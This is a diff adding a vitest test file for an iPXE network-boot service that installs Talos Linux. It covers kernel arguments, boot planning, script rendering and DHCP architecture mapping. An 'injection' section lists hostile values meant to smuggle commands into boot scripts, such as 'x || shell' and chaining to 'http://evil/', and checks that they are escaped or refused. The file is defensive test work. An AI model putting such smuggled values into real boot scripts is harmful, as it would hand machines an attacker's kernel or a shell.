@@ -1,0 +1,174 @@
+import { describe, expect, it } from 'vitest';
+import type { Node } from '../../src/inventory/model.ts';
+import { ipxeBinaryFor } from '../../src/ipxe/binaries.ts';
+import { talosKernelArgs } from '../../src/ipxe/kernel-args.ts';
+import { archFromIpxe, firmwareFromIpxe, planBoot } from '../../src/ipxe/plan.ts';
+import { renderEntryScript, renderNodeScript, ScriptValueError, text, token } from '../../src/ipxe/script.ts';
+
+const BASE = 'http://192.0.2.10:8080';
+const MAC = '52:54:00:12:34:56';
+
+function node(over: Partial<Node> = {}): Node {
+  return {
+    mac: MAC, role: 'unassigned', state: 'discovered', hostname: null, arch: 'amd64', firmware: 'uefi', uuid: null, serial: null,
+    manufacturer: null, product: null, lastIp: null, installDisk: null, diskSelector: null, labels: {}, talosVersion: null,
+    localBoot: 'exit', firstSeen: '2026-01-01T00:00:00.000Z', lastSeen: null, updatedAt: '2026-01-01T00:00:00.000Z', ...over,
+  };
+}
+
+/** The words of the script's `kernel` line after the kernel URL. */
+function kernelArgs(script: string): string[] {
+  const line = script.split('\n').find((l) => l.startsWith('kernel '))!;
+  return line.replace(/ \|\| goto failed$/, '').split(' ').slice(2);
+}
+
+/** Every line iPXE would execute must start with a command we wrote (or be a label/comment). */
+const COMMANDS = new Set(['#!ipxe', 'echo', 'chain', 'sleep', 'exit', 'kernel', 'initrd', 'boot', 'imgfree', 'sanboot', ':failed', '#']);
+function commands(script: string): string[] {
+  return script.split('\n').filter((l) => l !== '').map((l) => l.split(' ')[0]!);
+}
+
+describe('Talos kernel arguments', () => {
+  const base = ['talos.platform=metal', 'slab_nomerge', 'pti=on', 'init_on_alloc=1', 'consoleblank=0', 'nvme_core.io_timeout=4294967295', 'printk.devkmsg=on'];
+  it('1.9 amd64: the base set and the screen console', () => expect(talosKernelArgs('v1.9.5', 'amd64')).toEqual([...base, 'console=tty0']));
+  it('1.10 adds selinux=1', () => expect(talosKernelArgs('v1.10.0', 'amd64')).toEqual([...base, 'selinux=1', 'console=tty0']));
+  it('1.12 adds module.sig_enforce=1', () => expect(talosKernelArgs('v1.12.3', 'amd64')).toEqual([...base, 'selinux=1', 'module.sig_enforce=1', 'console=tty0']));
+  it('1.13 arm64: serial console then screen', () =>
+    expect(talosKernelArgs('v1.13.0-beta.1', 'arm64')).toEqual([...base, 'selinux=1', 'module.sig_enforce=1', 'console=ttyAMA0', 'console=tty0']));
+  it('2.0 keeps everything from 1.12', () => expect(talosKernelArgs('v2.0.0', 'amd64')).toContain('module.sig_enforce=1'));
+});
+
+describe('what iPXE reports', () => {
+  it('maps buildarch and platform', () => {
+    expect([archFromIpxe('x86_64'), archFromIpxe('i386'), archFromIpxe('arm64'), archFromIpxe('arm32'), archFromIpxe(undefined)]).toEqual(['amd64', 'amd64', 'arm64', undefined, undefined]);
+    expect([firmwareFromIpxe('pcbios'), firmwareFromIpxe('efi'), firmwareFromIpxe('x')]).toEqual(['bios', 'uefi', undefined]);
+  });
+});
+
+describe('planBoot', () => {
+  it('unassigned waits, whatever its state', () => {
+    expect(planBoot(node(), 'v1.13.9')).toEqual({ kind: 'wait', reason: 'unassigned' });
+    expect(planBoot(node({ state: 'installed' }), 'v1.13.9').kind).toBe('wait');
+  });
+  it.each(['assigned', 'installing', 'reinstall-requested'] as const)('%s installs, with the default or the node version', (state) => {
+    expect(planBoot(node({ role: 'worker', state }), 'v1.13.9')).toEqual({ kind: 'install', talosVersion: 'v1.13.9', arch: 'amd64', role: 'worker' });
+    expect(planBoot(node({ role: 'controlplane', state, talosVersion: 'v1.12.0', arch: 'arm64' }), 'v1.13.9')).toEqual({
+      kind: 'install', talosVersion: 'v1.12.0', arch: 'arm64', role: 'controlplane',
+    });
+  });
+  it.each(['exit', 'sanboot', 'http404'] as const)('installed boots locally via %s', (mode) => {
+    expect(planBoot(node({ role: 'worker', state: 'installed', localBoot: mode }), 'v1.13.9')).toEqual({ kind: 'local', mode });
+  });
+  it('no known architecture: cannot install', () => expect(planBoot(node({ role: 'worker', state: 'assigned', arch: null }), 'v1.13.9').kind).toBe('unsupported'));
+});
+
+describe('entry script', () => {
+  it('chains to the per-machine URL with every identity setting iPXE expands', () => {
+    const s = renderEntryScript(BASE);
+    expect(s.startsWith('#!ipxe\n')).toBe(true);
+    const chain = s.split('\n').find((l) => l.startsWith('chain '))!;
+    for (const v of ['${mac:hexhyp}', '${buildarch:uristring}', '${platform:uristring}', '${uuid:uristring}', '${serial:uristring}', '${manufacturer:uristring}', '${product:uristring}']) {
+      expect(chain).toContain(v);
+    }
+    expect(chain).toContain(`${BASE}/ipxe/node?`);
+    expect(chain.endsWith('|| goto failed')).toBe(true);
+    expect(s).toMatch(/:failed\n.*\nsleep 5\nexit 1\n$/);
+  });
+  it('refuses a base URL that could carry commands', () => expect(() => renderEntryScript('http://x/ ||  shell')).toThrow(ScriptValueError));
+});
+
+describe('per-machine scripts', () => {
+  const render = (n: Node, extra: { hostname?: string } = {}) => {
+    const plan = planBoot(n, 'v1.13.9');
+    return renderNodeScript({ plan, baseUrl: BASE, mac: n.mac, hostname: extra.hostname ?? n.hostname, configUrl: `${BASE}/talos/config/${n.mac}`, retrySeconds: 15 });
+  };
+
+  it('waiting: a message naming the machine, a pause, and the entry script again', () => {
+    const s = render(node());
+    expect(s).toContain(`machine ${MAC} is recorded but has no role yet`);
+    expect(s).toContain(`genesis nodes assign ${MAC} worker`);
+    expect(s).toMatch(/sleep 15\nchain --replace --autofree http:\/\/192\.0\.2\.10:8080\/boot\.ipxe\n$/);
+  });
+
+  for (const arch of ['amd64', 'arm64'] as const) {
+    for (const firmware of ['bios', 'uefi'] as const) {
+      it(`install ${arch}/${firmware}: Talos kernel and initramfs for the arch, required args, config URL with the MAC written in`, () => {
+        const s = render(node({ role: 'controlplane', state: 'assigned', arch, firmware }));
+        expect(s).toContain(`kernel ${BASE}/assets/talos/v1.13.9/${arch}/vmlinuz `);
+        expect(s).toContain(`initrd --name initramfs.xz ${BASE}/assets/talos/v1.13.9/${arch}/initramfs.xz || goto failed`);
+        const args = kernelArgs(s);
+        expect(args[0]).toBe('initrd=initramfs.xz');
+        expect(args.slice(1, -1)).toEqual(talosKernelArgs('v1.13.9', arch));
+        expect(args.at(-1)).toBe(`talos.config=${BASE}/talos/config/${MAC}`);
+        expect(s).not.toContain('talos.config=${');
+        expect(s).toContain('boot || goto failed');
+        expect(commands(s).every((c) => COMMANDS.has(c))).toBe(true);
+      });
+    }
+  }
+
+  it('install uses the node’s own Talos version', () => {
+    const s = render(node({ role: 'worker', state: 'reinstall-requested', talosVersion: 'v1.11.2' }));
+    expect(s).toContain('/assets/talos/v1.11.2/amd64/vmlinuz');
+    expect(kernelArgs(s)).not.toContain('module.sig_enforce=1');
+  });
+
+  it('installed: exit, or sanboot of the first disk', () => {
+    expect(render(node({ role: 'worker', state: 'installed' }))).toMatch(/\nexit 1\n$/);
+    expect(render(node({ role: 'worker', state: 'installed', localBoot: 'sanboot' }))).toContain('sanboot --no-describe --drive 0x80 || exit 1');
+  });
+
+  it('an install script without a config URL is a programming error', () => {
+    expect(() => renderNodeScript({ plan: { kind: 'install', talosVersion: 'v1.13.9', arch: 'amd64', role: 'worker' }, baseUrl: BASE, mac: MAC })).toThrow(ScriptValueError);
+  });
+});
+
+describe('injection', () => {
+  const hostile = [
+    'x\nkernel http://evil/vmlinuz',
+    'x || shell',
+    'x && chain http://evil/',
+    'x ; shell',
+    '${net0/mac}',
+    'x\r\nshell',
+    '"quoted" \\ back',
+    '--help',
+    'x #comment',
+  ];
+  it.each(hostile)('text() leaves %j one harmless echo line', (value) => {
+    const t = text(value);
+    expect(t).not.toMatch(/[\n\r$"\\;|&#]/);
+    expect(t.split(' ').some((w) => w.startsWith('-'))).toBe(false);
+  });
+  it.each(hostile)('token() refuses %j', (value) => expect(() => token(value)).toThrow(ScriptValueError));
+  it.each(hostile)('a hostile hostname %j adds no command to a script', (hostname) => {
+    for (const state of ['discovered', 'assigned', 'installed'] as const) {
+      const n = node({ role: state === 'discovered' ? 'unassigned' : 'worker', state });
+      const s = renderNodeScript({ plan: planBoot(n, 'v1.13.9'), baseUrl: BASE, mac: MAC, hostname, configUrl: `${BASE}/talos/config/${MAC}` });
+      const clean = renderNodeScript({ plan: planBoot(n, 'v1.13.9'), baseUrl: BASE, mac: MAC, hostname: 'h', configUrl: `${BASE}/talos/config/${MAC}` });
+      expect(commands(s)).toEqual(commands(clean));
+      expect(s.split('\n').length).toBe(clean.split('\n').length);
+      expect(s).not.toContain('${net0');
+    }
+  });
+  it('a hostile MAC or config URL never reaches a script', () => {
+    expect(() => renderNodeScript({ plan: { kind: 'wait', reason: 'unassigned' }, baseUrl: BASE, mac: 'a b' })).toThrow(ScriptValueError);
+    expect(() =>
+      renderNodeScript({ plan: { kind: 'install', talosVersion: 'v1.13.9', arch: 'amd64', role: 'worker' }, baseUrl: BASE, mac: MAC, configUrl: 'http://x/ y' }),
+    ).toThrow(ScriptValueError);
+  });
+});
+
+describe('iPXE binary by client architecture (DHCP option 93)', () => {
+  it.each([
+    [0, 'tftp', ['undionly.kpxe'], 'bios', 'amd64'],
+    [7, 'tftp', ['snponly.efi', 'ipxe.efi'], 'uefi', 'amd64'],
+    [9, 'tftp', ['snponly.efi', 'ipxe.efi'], 'uefi', 'amd64'],
+    [11, 'tftp', ['arm64-efi/snponly.efi'], 'uefi', 'arm64'],
+    [16, 'http', ['snponly.efi', 'ipxe.efi'], 'uefi', 'amd64'],
+    [19, 'http', ['arm64-efi/snponly.efi'], 'uefi', 'arm64'],
+  ])('arch %i → %s %j', (code, kind, candidates, firmware, arch) => {
+    expect(ipxeBinaryFor(code)).toEqual({ kind, candidates, firmware, arch });
+  });
+  it.each([6, 2, 10, 25, 65535])('arch %i is refused with a reason', (code) => expect(ipxeBinaryFor(code).kind).toBe('unsupported'));
+});
